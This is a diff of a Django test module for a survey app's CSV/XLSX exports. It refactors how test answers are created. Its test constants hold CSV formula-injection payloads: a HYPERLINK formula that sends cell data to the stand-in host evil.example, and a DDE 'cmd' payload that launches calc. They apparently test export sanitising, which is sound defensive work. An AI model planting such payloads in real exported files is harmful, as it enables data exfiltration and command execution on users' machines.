@@ -19,8 +19,6 @@ from django.urls import reverse
 from django.utils import timezone
 
 from tests.webapp.letters.conftest import placed_cohort
-from tests.webapp.surveys.conftest import Student as Answering
-from tests.webapp.surveys.conftest import no_tries_before  # noqa: F401 - a fixture
 from webapp.accounts.models import User
 from webapp.api.services import token_create
 from webapp.audit.services import audit
@@ -43,12 +41,15 @@ from webapp.segmentation.models import (
 from webapp.surveys.content import Content, Kind, QuestionContent
 from webapp.surveys.models import Participant, Questionnaire
 from webapp.surveys.questions import questions_of
+from webapp.surveys.services.answers import answer_save, answers_finish, participant_begin
 from webapp.surveys.services.cohorts import cohort_from_answers
 from webapp.surveys.services.questionnaires import questionnaire_create, questionnaire_open
 from webapp.surveys.services.translations import translations_set
 from webapp.tabular.tables_out import CSV, XLSX
 
 LINK = '=HYPERLINK("http://evil.example?x="&A1,"open")'
+# Cells are written from texts in memory, whichever database these came from.
+pytestmark = pytest.mark.any_database
 TYPED = (LINK, "+1+cmd|' /C calc'!A0", "-1+1", "@SUM(A1)", "\t=1+1", "\uff1d1+1")
 
 
@@ -154,10 +155,15 @@ def asked(bob: User) -> Questionnaire:
     questionnaire_open(user=bob, questionnaire=made, closes_at=until)
     made.refresh_from_db()
     written = next(q for q in questions_of(made.content) if q.kind is Kind.TEXT)
-    first = Answering(made, TYPED[0])  # by the page; the others are copies of this one
-    first.say_all()
-    first.say(written.number, TYPED[0])
-    row = first.row
+    row = participant_begin(questionnaire=made, identifier=TYPED[0])
+    for question in questions_of(made.content):
+        if question.options:
+            answer_save(participant=row, question=question, values=["0"])
+        elif question.kind is Kind.TIME:
+            answer_save(participant=row, question=question, values=["20:15"])
+    answer_save(participant=row, question=written, values=[TYPED[0]])
+    answers_finish(participant=row)
+    row.refresh_from_db()
     for text in TYPED[1:]:
         answers = row.answers | {written.key: text}
         copy = Participant(questionnaire=made, identifier=text, finished_at=row.finished_at)
